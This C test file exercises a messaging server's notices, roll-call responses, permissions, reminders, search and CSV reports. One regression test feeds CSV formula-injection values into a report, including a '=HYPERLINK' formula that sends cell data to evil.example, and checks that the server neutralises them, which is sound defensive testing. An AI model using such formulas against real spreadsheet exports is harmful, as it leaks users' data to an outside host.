/* test_notice.c - notices, roll-calls and reports against the real kizunad. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "harness.h"

#define PW "password-1234"

static struct kzd d;
static struct ws admin;

static void add_user(const char *login, const char *dept, const char *groups_json, const char *role)
{
    cJSON *r = ws_callf(&admin,
                        "\"op\":\"user.add\",\"login\":\"%s\",\"password\":\"%s\","
                        "\"department\":\"%s\",\"groups\":%s,\"role\":\"%s\"",
                        login, PW, dept, groups_json, role);
    cr_assert_str_eq(reply_code(r), "ok", "user.add %s", login);
    cJSON_Delete(r);
}

static void setup(void)
{
    kzd_setup(&d);
    cr_assert(ws_open(&admin, d.port));
    cr_assert(ws_login(&admin, "admin", TEST_ADMIN_PASSWORD, NULL));
    add_user("soumu1", "総務課", "[\"消防団\"]", "staff");
    add_user("soumu2", "総務課", "[]", "staff");
    add_user("kensetsu1", "建設課", "[\"消防団\"]", "staff");
    add_user("kensetsu2", "建設課", "[]", "staff");
    add_user("fukushi1", "福祉課", "[]", "staff");
    add_user("honbu", "本部", "[]", "hq");
}

static void teardown(void)
{
    ws_close_fd(&admin);
    kzd_teardown(&d);
}

TestSuite(notice, .init = setup, .fini = teardown, .timeout = 120);

static void as_user(struct ws *w, const char *login)
{
    cr_assert(ws_open(w, d.port));
    cr_assert(ws_login(w, login, PW, NULL), "login %s", login);
}

/* Posts as w and returns the notice id; expect_recipients < 0 skips that check. */
static long long post(struct ws *w, const char *fields, long long expect_recipients)
{
    cJSON *r = ws_callf(w, "\"op\":\"notice.post\",\"body\":\"本文\",%s", fields);
    cr_assert_str_eq(reply_code(r), "ok", "notice.post %s", fields);
    if (expect_recipients >= 0)
        cr_assert_eq((long long)cJSON_GetObjectItem(r, "recipients")->valuedouble,
                     expect_recipients, "recipients of %s", fields);
    long long id =
        (long long)cJSON_GetObjectItem(cJSON_GetObjectItem(r, "notice"), "id")->valuedouble;
    cJSON_Delete(r);
    return id;
}

/* The reply code of a request about one notice; fmt has one %lld for its id. */
static const char *code_of(struct ws *w, const char *fmt, long long id)
    __attribute__((format(printf, 2, 0)));
static const char *code_of(struct ws *w, const char *fmt, long long id)
{
    static char code[32];
    char buf[256];
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
    snprintf(buf, sizeof buf, fmt, id);
#pragma GCC diagnostic pop
    cJSON *r = ws_callf(w, "%s", buf);
    snprintf(code, sizeof code, "%s", reply_code(r));
    cJSON_Delete(r);
    return code;
}

Test(notice, audiences_resolve_when_posted)
{
    post(&admin, "\"title\":\"全員\",\"to\":[\"all\"]", 6);
    post(&admin, "\"title\":\"課\",\"to\":[\"dept:建設課\"]", 2);
    post(&admin, "\"title\":\"団\",\"to\":[\"group:消防団\"]", 2);
    post(&admin, "\"title\":\"人\",\"to\":[\"user:fukushi1\",\"user:honbu\"]", 2);
    long long mixed = post(
        &admin, "\"title\":\"混合\",\"to\":[\"dept:総務課\",\"group:消防団\",\"user:honbu\"]", 4);
    /* Someone who joins the department later is not a recipient of what was posted before. */
    add_user("kensetsu3", "建設課", "[]", "staff");
    struct ws late;
    as_user(&late, "kensetsu3");
    cJSON *r = ws_callf(&late, "\"op\":\"notice.list\"");
    cr_assert_eq(cJSON_GetArraySize(cJSON_GetObjectItem(r, "notices")), 0);
    cJSON_Delete(r);
    cr_assert_str_eq(code_of(&late, "\"op\":\"notice.show\",\"notice\":%lld", mixed), "not_found");
    ws_close_fd(&late);
    r = ws_callf(&admin, "\"op\":\"notice.report\",\"notice\":%lld", mixed);
    cr_assert_eq(cJSON_GetObjectItem(cJSON_GetObjectItem(r, "totals"), "recipients")->valuedouble,
                 4);
    cJSON_Delete(r);
    /* Unknown names are refused and nothing is posted. */
    r = ws_callf(
        &admin,
        "\"op\":\"notice.post\",\"title\":\"x\",\"body\":\"x\",\"to\":[\"dept:存在しない\"]");
    cr_assert_str_eq(reply_code(r), "not_found");
    cJSON_Delete(r);
    r = ws_callf(&admin,
                 "\"op\":\"notice.post\",\"title\":\"x\",\"body\":\"x\",\"to\":[\"everyone\"]");
    cr_assert_str_eq(reply_code(r), "bad_request");
    cJSON_Delete(r);
}

Test(notice, who_may_post_to_whom)
{
    struct ws s, h;
    as_user(&s, "soumu1");
    as_user(&h, "honbu");
    const char *refused[] = {"all", "dept:建設課", "user:honbu"};
    for (size_t i = 0; i < 3; i++) {
        cJSON *r =
            ws_callf(&s, "\"op\":\"notice.post\",\"title\":\"t\",\"body\":\"b\",\"to\":[\"%s\"]",
                     refused[i]);
        cr_assert_str_eq(reply_code(r), "forbidden", "staff to %s", refused[i]);
        cJSON_Delete(r);
    }
    post(&s, "\"title\":\"課内\",\"to\":[\"dept:総務課\"]", 1);
    post(&s, "\"title\":\"団\",\"to\":[\"group:消防団\"]", 1);
    post(&h, "\"title\":\"本部から全員へ\",\"to\":[\"all\"]", 6);
    ws_close_fd(&s);
    ws_close_fd(&h);
}

Test(notice, read_once_ack_and_changing_responses)
{
    long long id = post(
        &admin,
        "\"title\":\"安否確認\",\"to\":[\"all\"],\"priority\":\"urgent\","
        "\"ask_ack\":true,\"choices\":[\"無事・出勤可\",\"無事・出勤不可\",\"負傷\",\"その他\"]",
        6);
    struct ws u;
    as_user(&u, "soumu1");
    cJSON *r = ws_callf(&u, "\"op\":\"notice.show\",\"notice\":%lld", id);
    double first =
        cJSON_GetObjectItem(cJSON_GetObjectItem(cJSON_GetObjectItem(r, "notice"), "me"), "read_at")
            ->valuedouble;
    cJSON_Delete(r);
    r = ws_callf(&u, "\"op\":\"notice.show\",\"notice\":%lld", id);
    double second =
        cJSON_GetObjectItem(cJSON_GetObjectItem(cJSON_GetObjectItem(r, "notice"), "me"), "read_at")
            ->valuedouble;
    cJSON_Delete(r);
    cr_assert_eq(first, second, "the first reading is the one recorded");
    cr_assert_str_eq(code_of(&u, "\"op\":\"notice.ack\",\"notice\":%lld", id), "ok");
    r = ws_callf(&u, "\"op\":\"notice.respond\",\"notice\":%lld,\"choice\":\"負傷\"", id);
    cr_assert_str_eq(reply_code(r), "ok");
    cJSON_Delete(r);
    r = ws_callf(
        &u, "\"op\":\"notice.respond\",\"notice\":%lld,\"choice\":\"1\",\"comment\":\"軽傷\"", id);
    cr_assert_str_eq(cJSON_GetObjectItem(r, "text")->valuestring, "無事・出勤可", "by number");
    cJSON_Delete(r);
    cr_assert_str_eq(code_of(&u, "\"op\":\"notice.respond\",\"notice\":%lld,\"choice\":\"9\"", id),
                     "bad_request");
    r = ws_callf(&admin, "\"op\":\"notice.report\",\"notice\":%lld", id);
    cJSON *totals = cJSON_GetObjectItem(r, "totals");
    cr_assert_eq(cJSON_GetObjectItem(totals, "read")->valuedouble, 1);
    cr_assert_eq(cJSON_GetObjectItem(totals, "acked")->valuedouble, 1);
    cr_assert_eq(cJSON_GetObjectItem(totals, "responded")->valuedouble, 1);
    cJSON *resp = cJSON_GetObjectItem(totals, "responses");
    cr_assert_eq(cJSON_GetObjectItem(cJSON_GetArrayItem(resp, 0), "count")->valuedouble, 1,
                 "the latest response counts");
    cr_assert_eq(cJSON_GetObjectItem(cJSON_GetArrayItem(resp, 2), "count")->valuedouble, 0);
    cJSON_Delete(r);
    /* Withdrawn: no more responses. */
    cr_assert_str_eq(code_of(&admin, "\"op\":\"notice.withdraw\",\"notice\":%lld", id), "ok");
    cr_assert_str_eq(code_of(&u, "\"op\":\"notice.respond\",\"notice\":%lld,\"choice\":\"1\"", id),
                     "conflict");
    ws_close_fd(&u);
}

Test(notice, staff_cannot_see_what_is_not_addressed_to_them_nor_any_report)
{
    long long id = post(&admin, "\"title\":\"建設課のみ\",\"to\":[\"dept:建設課\"]", 2);
    struct ws other, member;
    as_user(&other, "soumu1");
    as_user(&member, "kensetsu1");
    cr_assert_str_eq(code_of(&other, "\"op\":\"notice.show\",\"notice\":%lld", id), "not_found");
    cr_assert_str_eq(code_of(&other, "\"op\":\"notice.report\",\"notice\":%lld", id), "not_found");
    cr_assert_str_eq(code_of(&other, "\"op\":\"notice.remind\",\"notice\":%lld", id), "not_found");
    cr_assert_str_eq(code_of(&member, "\"op\":\"notice.show\",\"notice\":%lld", id), "ok");
    cr_assert_str_eq(code_of(&member, "\"op\":\"notice.report\",\"notice\":%lld", id), "forbidden");
    cr_assert_str_eq(code_of(&member, "\"op\":\"notice.remind\",\"notice\":%lld", id), "forbidden");
    cr_assert_str_eq(code_of(&member, "\"op\":\"notice.withdraw\",\"notice\":%lld", id),
                     "forbidden");
    cJSON *r = ws_callf(&other, "\"op\":\"notice.list\"");
    cr_assert_eq(cJSON_GetArraySize(cJSON_GetObjectItem(r, "notices")), 0);
    cJSON_Delete(r);
    /* Every notice: an admin's list (another admin's notice included), no one else's. */
    cr_assert_str_eq(code_of(&other, "\"op\":\"notice.list\",\"all\":true%.0lld", 0), "forbidden");
    struct ws hq;
    as_user(&hq, "honbu");
    long long own = post(&hq, "\"title\":\"本部から\",\"to\":[\"dept:福祉課\"]", 1);
    cr_assert_str_eq(code_of(&hq, "\"op\":\"notice.list\",\"all\":true%.0lld", 0), "forbidden");
    ws_close_fd(&hq);
    r = ws_callf(&admin, "\"op\":\"notice.list\",\"all\":true");
    const cJSON *n0 = cJSON_GetArrayItem(cJSON_GetObjectItem(r, "notices"), 0);
    const cJSON *n1 = cJSON_GetArrayItem(cJSON_GetObjectItem(r, "notices"), 1);
    cr_assert_eq((long long)cJSON_GetObjectItem(n0, "id")->valuedouble, own, "newest first");
    cr_assert_eq((long long)cJSON_GetObjectItem(n1, "id")->valuedouble, id);
    cJSON_Delete(r);
    ws_close_fd(&other);
    ws_close_fd(&member);
}

Test(notice, a_reminder_reaches_only_the_missing_people)
{
    long long id = post(&admin,
                        "\"title\":\"出勤可否\",\"to\":[\"dept:建設課\",\"dept:総務課\"],"
                        "\"choices\":[\"可\",\"不可\"]",
                        4);
    struct ws done, missing;
    as_user(&done, "soumu1");
    as_user(&missing, "kensetsu1");
    cJSON *r = ws_callf(&done, "\"op\":\"notice.respond\",\"notice\":%lld,\"choice\":\"可\"", id);
    cJSON_Delete(r);
    /* Both follow live; only the one who has not responded must be reminded. */
    ws_live(&done, d.port, "soumu1", PW, -1, NULL);
    ws_live(&missing, d.port, "kensetsu1", PW, -1, NULL);
    r = ws_callf(&admin, "\"op\":\"notice.remind\",\"notice\":%lld", id);
    cr_assert_str_eq(reply_code(r), "ok");
    cr_assert_eq(cJSON_GetObjectItem(r, "reminded")->valuedouble, 3);
    cr_assert_str_eq(cJSON_GetObjectItem(r, "for")->valuestring, "response");
    cJSON *users = cJSON_GetObjectItem(r, "users");
    bool soumu1_reminded = false;
    cJSON *u;
    cJSON_ArrayForEach(u, users) soumu1_reminded |= strcmp(u->valuestring, "soumu1") == 0;
    cr_assert(!soumu1_reminded);
    cJSON_Delete(r);
    cJSON *e = ws_next_event(&missing, 5000);
    cr_assert_not_null(e, "the missing person is re-notified");
    cr_assert_str_eq(cJSON_GetObjectItem(e, "event")->valuestring, "notice.remind");
    cr_assert_eq(cJSON_GetObjectItem(e, "notice")->valuedouble, id);
    cJSON_Delete(e);
    e = ws_next_event(&done, 500);
    cr_assert_null(e, "the one who responded is left alone");
    ws_close_fd(&done);
    ws_close_fd(&missing);
}

Test(notice, urgent_notices_arrive_as_an_alert_and_in_the_feed_stream)
{
    struct ws u;
    long long since = ws_live(&u, d.port, "fukushi1", PW, -1, NULL);
    long long id =
        post(&admin, "\"title\":\"避難指示\",\"to\":[\"all\"],\"priority\":\"urgent\"", 6);
    cJSON *alert = ws_next_event(&u, 5000);
    cr_assert_not_null(alert);
    cr_assert_str_eq(cJSON_GetObjectItem(alert, "event")->valuestring, "notice.alert");
    cJSON_Delete(alert);
    cJSON *e = ws_next_event(&u, 5000);
    cr_assert_str_eq(cJSON_GetObjectItem(e, "event")->valuestring, "notice.post");
    cr_assert_eq(cJSON_GetObjectItem(cJSON_GetObjectItem(e, "content"), "notice")->valuedouble, id);
    cJSON_Delete(e);
    ws_close_fd(&u);
    /* The feed resumes like talk: a client that was away gets the notice by sync. */
    cJSON *events = cJSON_CreateArray();
    struct ws again;
    ws_live(&again, d.port, "fukushi1", PW, since, events);
    cr_assert_eq(cJSON_GetArraySize(events), 1);
    cJSON_Delete(events);
    /* Unread and urgent first in the list. */
    post(&admin, "\"title\":\"通常\",\"to\":[\"all\"]", 6);
    cJSON *r = ws_callf(&again, "\"op\":\"notice.list\"");
    cJSON *first = cJSON_GetArrayItem(cJSON_GetObjectItem(r, "notices"), 0);
    cr_assert_str_eq(cJSON_GetObjectItem(first, "title")->valuestring, "避難指示");
    cJSON_Delete(r);
    ws_close_fd(&again);
}

Test(notice, announcement_in_a_talk_room_links_the_notice)
{
    cJSON *r =
        ws_callf(&admin, "\"op\":\"room.create\",\"name\":\"全体連絡\",\"members\":[\"soumu1\"]");
    char room[64];
    reply_room(r, room, sizeof room);
    cJSON_Delete(r);
    char fields[256];
    snprintf(fields, sizeof fields,
             "\"title\":\"訓練のお知らせ\",\"to\":[\"all\"],\"announce_room\":\"%s\"", room);
    long long id = post(&admin, fields, 6);
    r = ws_callf(&admin, "\"op\":\"history\",\"room\":\"%s\",\"limit\":1", room);
    cJSON *last = cJSON_GetArrayItem(cJSON_GetObjectItem(r, "events"), 0);
    char link[64];
    snprintf(link, sizeof link, "kizuna://notice/%lld", id);
    cr_assert(strstr(cJSON_GetObjectItem(cJSON_GetObjectItem(last, "content"), "body")->valuestring,
                     link));
    cr_assert_eq(cJSON_GetObjectItem(cJSON_GetObjectItem(last, "content"), "notice")->valuedouble,
                 id);
    cJSON_Delete(r);
}

/* A few hundred generated users across departments: counts by department and exactly the
 * missing people. */
Test(notice, reports_for_hundreds_of_users)
{
    const char *depts[] = {"総務課", "建設課", "福祉課", "税務課", "消防本部"};
    int per_dept[5] = {0};
    int n = 250;
    for (int i = 0; i < n; i++) {
        char login[32];
        snprintf(login, sizeof login, "gen%03d", i);
        add_user(login, depts[i % 5], "[]", "staff");
        per_dept[i % 5]++;
    }
    long long id = post(
        &admin, "\"title\":\"安否確認\",\"to\":[\"all\"],\"choices\":[\"無事\",\"負傷\"]", n + 6);
    /* Generated users with i % 3 == 0 respond (負傷 when i % 2), the rest read only when
     * i % 3 == 1, and the others do nothing. */
    int responded[5] = {0}, injured = 0, read_only = 0;
    for (int i = 0; i < n; i++) {
        if (i % 3 == 2)
            continue;
        char login[32];
        snprintf(login, sizeof login, "gen%03d", i);
        struct ws u;
        as_user(&u, login);
        if (i % 3 == 0) {
            cJSON *r = ws_callf(&u, "\"op\":\"notice.respond\",\"notice\":%lld,\"choice\":\"%s\"",
                                id, i % 2 ? "負傷" : "無事");
            cr_assert_str_eq(reply_code(r), "ok");
            cJSON_Delete(r);
            responded[i % 5]++;
            injured += i % 2;
        } else {
            cr_assert_str_eq(code_of(&u, "\"op\":\"notice.show\",\"notice\":%lld", id), "ok");
            read_only++;
        }
        ws_close_fd(&u);
    }
    cJSON *r = ws_callf(&admin, "\"op\":\"notice.report\",\"notice\":%lld", id);
    cr_assert_str_eq(reply_code(r), "ok");
    cJSON *totals = cJSON_GetObjectItem(r, "totals");
    int total_resp = 0;
    for (int i = 0; i < 5; i++)
        total_resp += responded[i];
    cr_assert_eq(cJSON_GetObjectItem(totals, "recipients")->valuedouble, n + 6);
    cr_assert_eq(cJSON_GetObjectItem(totals, "responded")->valuedouble, total_resp);
    cr_assert_eq(cJSON_GetObjectItem(totals, "read")->valuedouble, total_resp + read_only,
                 "responding counts as reading");
    cr_assert_eq(cJSON_GetObjectItem(
                     cJSON_GetArrayItem(cJSON_GetObjectItem(totals, "responses"), 1), "count")
                     ->valuedouble,
                 injured);
    cJSON *row;
    int checked = 0;
    cJSON_ArrayForEach(row, cJSON_GetObjectItem(r, "by_department"))
    {
        for (int k = 0; k < 5; k++) {
            if (strcmp(cJSON_GetObjectItem(row, "department")->valuestring, depts[k]) != 0)
                continue;
            /* setup's users add one or two to some departments */
            int extra = k == 0 ? 2 : k == 1 ? 2 : k == 2 ? 1 : 0;
            cr_assert_eq(cJSON_GetObjectItem(row, "recipients")->valuedouble, per_dept[k] + extra,
                         "%s", depts[k]);
            cr_assert_eq(cJSON_GetObjectItem(row, "responded")->valuedouble, responded[k], "%s",
                         depts[k]);
            checked++;
        }
    }
    cr_assert_eq(checked, 5);
    cJSON *missing = cJSON_GetObjectItem(cJSON_GetObjectItem(r, "missing"), "not_responded");
    cr_assert_eq(cJSON_GetArraySize(missing), n + 6 - total_resp);
    cJSON *m;
    cJSON_ArrayForEach(m, missing)
    {
        const char *login = cJSON_GetObjectItem(m, "login")->valuestring;
        if (strncmp(login, "gen", 3) == 0)
            cr_assert_neq(atoi(login + 3) % 3, 0, "%s responded but is listed as missing", login);
    }
    cJSON_Delete(r);
    r = ws_callf(&admin, "\"op\":\"notice.report\",\"notice\":%lld,\"format\":\"csv\"", id);
    const char *csv = cJSON_GetObjectItem(r, "csv")->valuestring;
    int lines = 0;
    for (const char *p = csv; *p; p++)
        lines += *p == '\n';
    cr_assert_eq(lines, n + 6 + 1, "a header and one line per recipient");
    cr_assert(strncmp(csv, "\xef\xbb\xbf\"department\",\"login\"", 23) == 0, "BOM and header");
    cJSON_Delete(r);
}

/* Issue 12, defect 5: a display name "+SUM(1,1)" and a comment "=HYPERLINK(...)" went into
 * the report's CSV unchanged, and a spreadsheet ran them. */
Test(notice, the_report_csv_runs_no_formula_in_a_spreadsheet)
{
    cJSON *r = ws_callf(&admin,
                        "\"op\":\"user.add\",\"login\":\"evil\",\"password\":\"%s\","
                        "\"name\":\"+SUM(1,1)\",\"department\":\"@総務課\"",
                        PW);
    cr_assert_str_eq(reply_code(r), "ok");
    cJSON_Delete(r);
    long long id = post(&admin,
                        "\"title\":\"安否確認\",\"to\":[\"user:evil\",\"user:soumu1\"],"
                        "\"choices\":[\"-不明\",\"無事\"]",
                        2);
    struct ws u;
    as_user(&u, "evil");
    r = ws_callf(&u,
                 "\"op\":\"notice.respond\",\"notice\":%lld,\"choice\":\"1\","
                 "\"comment\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"無事\\\")\"",
                 id);
    cr_assert_str_eq(reply_code(r), "ok");
    cJSON_Delete(r);
    ws_close_fd(&u);
    r = ws_callf(&admin, "\"op\":\"notice.report\",\"notice\":%lld,\"format\":\"csv\"", id);
    cr_assert_str_eq(reply_code(r), "ok");
    const char *csv = cJSON_GetObjectItem(r, "csv")->valuestring;
    const char *bad = csv_formula_cell(csv);
    cr_assert_null(bad, "a cell a spreadsheet runs: %.60s", bad);
    cr_assert(strstr(csv, "\"'@総務課\",\"evil\",\"'+SUM(1,1)\","), "%s", csv);
    cr_assert(
        strstr(csv, ",\"'-不明\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"無事\"\")\","),
        "%s", csv);
    cr_assert(strstr(csv, "\"総務課\",\"soumu1\",\"soumu1\","), "ordinary cells unchanged: %s",
              csv);
    cJSON_Delete(r);
}

/* issue 13: a notice is found by search, by those who received it (and its author), with the
 * messages of their rooms; nobody else finds it, and no results say so in an empty list. */
Test(notice, recipients_find_notices_by_search)
{
    struct ws honbu, s1, k1;
    as_user(&honbu, "honbu");
    cJSON *r = ws_callf(&honbu, "\"op\":\"notice.post\",\"title\":\"給水車の配置\","
                                "\"body\":\"第二避難所に給水車を配置しました。容器を持参してく"
                                "ださい。\",\"to\":[\"dept:総務課\"]");
    cr_assert_str_eq(reply_code(r), "ok");
    long long id =
        (long long)cJSON_GetObjectItem(cJSON_GetObjectItem(r, "notice"), "id")->valuedouble;
    cJSON_Delete(r);
    as_user(&s1, "soumu1");
    as_user(&k1, "kensetsu1");
    const char *queries[] = {"給水車", "容器 持参", "給水車\u3000配置", "避難所 給水"};
    for (size_t i = 0; i < sizeof queries / sizeof queries[0]; i++) {
        r = ws_callf(&s1, "\"op\":\"search\",\"query\":\"%s\"", queries[i]);
        cr_assert_str_eq(reply_code(r), "ok");
        cJSON *res = cJSON_GetObjectItem(r, "results");
        cr_assert_eq(cJSON_GetArraySize(res), 1, "a recipient finds it by '%s'", queries[i]);
        cJSON *hit = cJSON_GetArrayItem(res, 0);
        cr_assert_str_eq(cJSON_GetObjectItem(hit, "kind")->valuestring, "notice");
        cr_assert_eq((long long)cJSON_GetObjectItem(hit, "notice")->valuedouble, id);
        cr_assert_str_eq(cJSON_GetObjectItem(hit, "title")->valuestring, "給水車の配置");
        cr_assert_str_eq(cJSON_GetObjectItem(hit, "sender")->valuestring, "honbu");
        cJSON_Delete(r);
    }
    r = ws_callf(&k1, "\"op\":\"search\",\"query\":\"給水車\"");
    cr_assert_eq(cJSON_GetArraySize(cJSON_GetObjectItem(r, "results")), 0,
                 "not addressed to 建設課");
    cJSON_Delete(r);
    r = ws_callf(&honbu, "\"op\":\"search\",\"query\":\"給水車\"");
    cr_assert_eq(cJSON_GetArraySize(cJSON_GetObjectItem(r, "results")), 1, "its author");
    cJSON_Delete(r);
    r = ws_callf(&s1, "\"op\":\"search\",\"query\":\"給水車 土砂\"");
    cr_assert_eq(cJSON_GetArraySize(cJSON_GetObjectItem(r, "results")), 0, "every word");
    cJSON_Delete(r);
    /* A revision is found by its new text. */
    r = ws_callf(&honbu, "\"op\":\"notice.edit\",\"notice\":%lld,\"body\":\"給水は終了しました\"",
                 id);
    cr_assert_str_eq(reply_code(r), "ok");
    cJSON_Delete(r);
    r = ws_callf(&s1, "\"op\":\"search\",\"query\":\"給水 終了\"");
    cr_assert_eq(cJSON_GetArraySize(cJSON_GetObjectItem(r, "results")), 1);
    cJSON_Delete(r);
    ws_close_fd(&honbu);
    ws_close_fd(&s1);
    ws_close_fd(&k1);
}
